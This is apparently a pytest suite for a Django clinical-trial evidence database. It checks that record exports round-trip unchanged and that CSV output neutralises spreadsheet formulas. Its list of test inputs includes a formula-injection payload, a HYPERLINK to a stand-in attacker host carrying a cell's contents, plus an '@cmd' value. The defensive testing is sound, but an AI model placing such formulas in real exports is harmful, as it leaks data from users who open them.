"""One record format everywhere, on the real curated dataset.

For every curated entity: export_records (CSV and JSON) and the release CSV re-import
unchanged with "0 changed", and the database is identical afterwards (every field, every
many-to-many link, every version, no new history row). The admin export re-imports
through the real admin views. Formula neutralisation survives the round trip.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.core.management import call_command
from import_export.admin import ImportExportMixin

from evidence.dataset.load import dataset_load
from evidence.dataset.releases import release_publish
from evidence.dataset.specs import specs
from evidence.models import Publication
from trials.models import ClinicalTrial

FIXTURES = Path(settings.FIXTURES_DIR)
ENTITIES = [spec.name for spec in specs()]


@pytest.fixture(scope="module")
def curated(django_db_setup, django_db_blocker):
    """The real curated dataset, loaded once for the module (each test rolls back)."""
    with django_db_blocker.unblock():
        dataset_load(directory=FIXTURES)
    yield
    with django_db_blocker.unblock():
        call_command("flush", interactive=False, verbosity=0)


def dump() -> dict:
    """Every stored field and many-to-many link of every curated record, and history."""
    state = {}
    for spec in specs():
        model = spec.model
        concrete = [f.attname for f in model._meta.concrete_fields]
        many = [f.name for f in model._meta.many_to_many]
        rows = {}
        for obj in model._default_manager.prefetch_related(*many).order_by("pk"):
            row = {name: getattr(obj, name) for name in concrete}
            for name in many:
                row[name] = sorted(r.pk for r in getattr(obj, name).all())
            rows[obj.pk] = row
        state[spec.name] = rows
        history = getattr(model, "history", None)
        state[f"{spec.name}.history"] = history.count() if history is not None else 0
    return state


def export(entity: str, fmt: str) -> str:
    out = io.StringIO()
    call_command("export_records", entity, "--format", fmt, stdout=out)
    return out.getvalue()


def run_import(path: Path, entity: str, *extra) -> str:
    out = io.StringIO()
    call_command("import_records", entity, str(path), *extra, stdout=out)
    return out.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_every_entity_round_trips_unchanged(curated, tmp_path, fmt):
    before = dump()
    for entity in ENTITIES:
        count = specs()[ENTITIES.index(entity)].model._default_manager.count()
        assert count, f"{entity}: the curated dataset has no records"
        path = tmp_path / f"{entity}.{fmt}"
        path.write_text(export(entity, fmt), encoding="utf-8")
        summary = run_import(path, entity, "--dry-run")
        assert f"0 changed (0 created, 0 updated), {count} unchanged" in summary, entity
        summary = run_import(path, entity)
        assert f"Imported: 0 changed (0 created, 0 updated), {count} unchanged" in (
            summary
        ), entity
    assert dump() == before


@pytest.mark.django_db
def test_release_csv_is_the_export_format_and_reimports(curated, tmp_path):
    release_publish(version="9.9.9", root=tmp_path)
    before = dump()
    for entity in ENTITIES:
        path = tmp_path / "9.9.9" / "csv" / f"{entity}.csv"
        # The same bytes as export_records: one format for both.
        assert path.read_bytes().decode("utf-8") == export(entity, "csv"), entity
        summary = run_import(path, entity)
        assert "Imported: 0 changed" in summary, entity
    assert dump() == before


@pytest.mark.django_db
def test_release_csv_columns_carry_the_provenance_and_confirmed_by(curated, tmp_path):
    release_publish(version="9.9.9", root=tmp_path)
    path = tmp_path / "9.9.9" / "csv" / "trials.csv"
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert list(rows[0])[-7:] == [
        "review",
        "locator",
        "refs",
        "primary_doi",
        "verification",
        "confirmed_by",
        "flags",
    ]
    rows[0]["confirmed_by"] = "https://clinicaltrials.gov/study/" + rows[0]["slug"]
    rows[0]["verification"] = "checked_registry"
    edited = tmp_path / "trials.csv"
    with edited.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert "1 changed (0 created, 1 updated)" in run_import(edited, "trials")
    trial = ClinicalTrial.objects.get(slug=rows[0]["slug"])
    assert trial.confirmed_by == rows[0]["confirmed_by"]
    assert trial.verification_status == "checked_registry"
    assert trial.history.first().history_change_reason == "import: trials.csv"


@pytest.mark.django_db
def test_missing_nct_id_and_doi_stay_null(curated, tmp_path):
    without_nct = ClinicalTrial.objects.filter(nct_id__isnull=True)
    without_doi = Publication.objects.filter(doi__isnull=True)
    assert without_nct.exists() and without_doi.exists()
    assert not ClinicalTrial.objects.filter(nct_id="").exists()
    for entity, fmt in (("trials", "csv"), ("publications", "json")):
        path = tmp_path / f"{entity}.{fmt}"
        path.write_text(export(entity, fmt), encoding="utf-8")
        run_import(path, entity)
    # JSON writes null; an empty string in a JSON file means the same.
    records = json.loads(export("publications", "json"))
    record = next(r for r in records if r["doi"] is None)
    record["doi"] = ""
    record["title"] = record["title"] + " (corrected)"
    path = tmp_path / "one.json"
    path.write_text(json.dumps([record]), encoding="utf-8")
    assert "1 updated" in run_import(path, "publications")
    assert Publication.objects.get(slug=record["slug"]).doi is None
    assert not Publication.objects.filter(doi="").exists()
    assert without_nct.count() == ClinicalTrial.objects.filter(nct_id=None).count()


# Formula neutralisation -------------------------------------------------------------

TRICKY = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+SUM(1)",
    "-2+3",
    "@cmd",
    "\tTab first",
    "'quoted by the curator",
    "''two apostrophes",
    "plain text",
]


@pytest.fixture
def tricky_trials(curated):
    trials = list(ClinicalTrial.objects.order_by("slug")[: len(TRICKY)])
    for trial, text in zip(trials, TRICKY, strict=True):
        ClinicalTrial.objects.filter(pk=trial.pk).update(design_as_printed=text)
    return {t.slug: text for t, text in zip(trials, TRICKY, strict=True)}


def _column(text: str, name: str) -> dict[str, str]:
    key = "slug" if "slug" in text.splitlines()[0].split(",") else None
    rows = list(csv.DictReader(io.StringIO(text)))
    return {row.get(key, str(i)): row[name] for i, row in enumerate(rows)}


@pytest.mark.django_db
def test_csv_neutralises_formulas_and_round_trips_exactly(tricky_trials, tmp_path):
    text = export("trials", "csv")
    cells = _column(text, "design_as_printed")
    for slug, value in tricky_trials.items():
        if value == "plain text":
            assert cells[slug] == value
        else:
            assert cells[slug] == "'" + value, value
    path = tmp_path / "trials.csv"
    path.write_text(text, encoding="utf-8", newline="")
    before = dump()
    assert "Imported: 0 changed" in run_import(path, "trials")
    assert dump() == before
    for slug, value in tricky_trials.items():
        assert ClinicalTrial.objects.get(slug=slug).design_as_printed == value


@pytest.mark.django_db
def test_json_keeps_values_as_they_are(tricky_trials, tmp_path):
    records = {r["slug"]: r for r in json.loads(export("trials", "json"))}
    for slug, value in tricky_trials.items():
        assert records[slug]["design_as_printed"] == value
    path = tmp_path / "trials.json"
    path.write_text(export("trials", "json"), encoding="utf-8")
    assert "Imported: 0 changed" in run_import(path, "trials")


@pytest.mark.django_db
def test_every_csv_writer_neutralises_formulas(tricky_trials, tmp_path, client):
    formula = TRICKY[0]
    slug = next(s for s, v in tricky_trials.items() if v == formula)
    expected = "'" + formula
    # export_records and the release CSV
    assert _column(export("trials", "csv"), "design_as_printed")[slug] == expected
    release_publish(version="1.0.0", root=tmp_path)
    release = (tmp_path / "1.0.0" / "csv" / "trials.csv").read_text(encoding="utf-8")
    assert _column(release, "design_as_printed")[slug] == expected
    # the admin export
    admin = get_user_model().objects.create_superuser("root", "r@example.org", "pw-x")
    client.force_login(admin)
    content = admin_export(client, "trials", "clinicaltrial", "csv")
    assert _column(content, "design_as_printed")[slug] == expected
    # the API and the HTML list
    api = client.get("/api/trials/", {"format": "csv", "page_size": 400})
    assert _column(api.content.decode(), "design_as_printed")[slug] == expected
    html = client.get("/trials/", {"export": "csv"}).getvalue().decode()
    cells = set(_column(html, "Design (as printed)").values())
    assert expected in cells and formula not in cells


# The admin -------------------------------------------------------------------------


def _format_index(app: str, model: str, name: str, kind: str) -> int:
    from django.contrib import admin

    model_admin = next(
        a
        for m, a in admin.site._registry.items()
        if m._meta.app_label == app and m._meta.model_name == model
    )
    assert isinstance(model_admin, ImportExportMixin)
    formats = (
        model_admin.get_export_formats()
        if kind == "export"
        else model_admin.get_import_formats()
    )
    return next(i for i, f in enumerate(formats) if f().get_title() == name)


ADMIN_MODELS = {
    "trials": ("trials", "clinicaltrial"),
    "publications": ("evidence", "publication"),
}


def admin_export(client, entity: str, model: str, fmt: str) -> str:
    app = ADMIN_MODELS.get(entity, ("trials", model))[0]
    index = _format_index(app, model, fmt, "export")
    url = f"/admin/{app}/{model}/export/"
    page = client.get(url)
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": index}
    # Every selectable column, as a curator who keeps the defaults would send.
    for name, field in form.fields.items():
        if getattr(field, "is_selectable_field", False):
            data[name] = "on"
    if "resource" in form.fields:
        data["resource"] = 0
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Disposition"].startswith("attachment")
    return response.content.decode("utf-8")


def admin_import(client, entity: str, model: str, fmt: str, content: str):
    app = ADMIN_MODELS[entity][0]
    index = _format_index(app, model, fmt, "import")
    url = f"/admin/{app}/{model}/import/"
    upload = io.BytesIO(content.encode("utf-8"))
    upload.name = f"{entity}.{fmt}"
    preview = client.post(url, {"format": index, "import_file": upload, "resource": 0})
    assert preview.status_code == 200
    return preview


@pytest.fixture
def admin_client(client, curated):
    user = get_user_model().objects.create_superuser(
        "curator-admin", "ca@example.org", "a-long-password-1"
    )
    assert client.login(username="curator-admin", password="a-long-password-1")
    client.user = user
    return client


@pytest.mark.django_db
@pytest.mark.parametrize(
    "entity,model", [("trials", "clinicaltrial"), ("publications", "publication")]
)
@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_admin_export_reimports_through_the_admin(admin_client, entity, model, fmt):
    before = dump()
    content = admin_export(admin_client, entity, model, fmt)
    preview = admin_import(admin_client, entity, model, fmt, content)
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), (
        [e.error for e in result.base_errors],
        [(r.number, r.error_dict) for r in result.invalid_rows],
    )
    count = specs()[ENTITIES.index(entity)].model._default_manager.count()
    assert result.totals["skip"] == count
    assert result.totals["new"] == result.totals["update"] == 0
    confirm = preview.context["confirm_form"]
    response = admin_client.post(
        f"/admin/{ADMIN_MODELS[entity][0]}/{model}/process_import/",
        {name: confirm[name].value() for name in confirm.fields},
    )
    assert response.status_code == 302
    assert dump() == before


@pytest.mark.django_db
def test_admin_import_preview_shows_key_and_reference_columns(admin_client):
    content = admin_export(admin_client, "trials", "clinicaltrial", "csv")
    rows = list(csv.DictReader(io.StringIO(content)))
    row = next(r for r in rows if r["refs"])
    row["route_as_printed"] = row["route_as_printed"] + " (edited)"
    new = dict(row, slug="import-test-new-trial", nct_id="")
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(row))
    writer.writeheader()
    writer.writerows([row, new])
    preview = admin_import(
        admin_client, "trials", "clinicaltrial", "csv", buffer.getvalue()
    )
    result = preview.context["result"]
    assert not result.has_validation_errors(), [
        (r.number, r.error_dict) for r in result.invalid_rows
    ]
    assert (result.totals["update"], result.totals["new"]) == (1, 1)
    html = preview.content.decode()
    refs = row["refs"].split("; ")[0]
    for row_result in result.rows:
        cells = [re.sub(r"<[^>]+>", "", str(c)) for c in row_result.diff]
        columns = dict(zip(result.diff_headers, cells, strict=True))
        assert columns["slug"] in (row["slug"], new["slug"])
        assert columns["review"] == row["review"]
        assert refs in columns["refs"]
    assert "import-test-new-trial" in html
    assert not ClinicalTrial.objects.filter(slug="import-test-new-trial").exists()
    # Confirmed: both rows written through record_save, with the admin user and reason.
    confirm = preview.context["confirm_form"]
    admin_client.post(
        "/admin/trials/clinicaltrial/process_import/",
        {name: confirm[name].value() for name in confirm.fields},
    )
    created = ClinicalTrial.objects.get(slug="import-test-new-trial")
    assert created.nct_id is None
    assert created.evidence_level  # derived on the way in
    assert created.reference_numbers
    latest = created.history.first()
    assert latest.history_change_reason == "import: trials.csv"
    assert latest.history_user == admin_client.user
    updated = ClinicalTrial.objects.get(slug=row["slug"])
    assert updated.route_as_printed.endswith("(edited)")
    assert updated.version == 2


# Writes through record_save ----------------------------------------------------------


@pytest.mark.django_db
def test_an_import_bumps_the_version_and_rederives_the_level(curated, tmp_path):
    records = json.loads(export("trials", "json"))
    record = next(r for r in records if not r["evidence_level_override"])
    trial = ClinicalTrial.objects.get(slug=record["slug"])
    versions = trial.history.count()
    ClinicalTrial.objects.filter(pk=trial.pk).update(evidence_level="")
    record["route_as_printed"] = "changed by the import"
    path = tmp_path / "trials.json"
    path.write_text(json.dumps([record]), encoding="utf-8")
    run_import(path, "trials")
    stored = ClinicalTrial.objects.get(pk=trial.pk)
    assert stored.version == trial.version + 1
    assert stored.evidence_level == trial.evidence_level != ""
    assert stored.history.first().history_change_reason == "import: trials.json"
    assert stored.history.count() == versions + 1
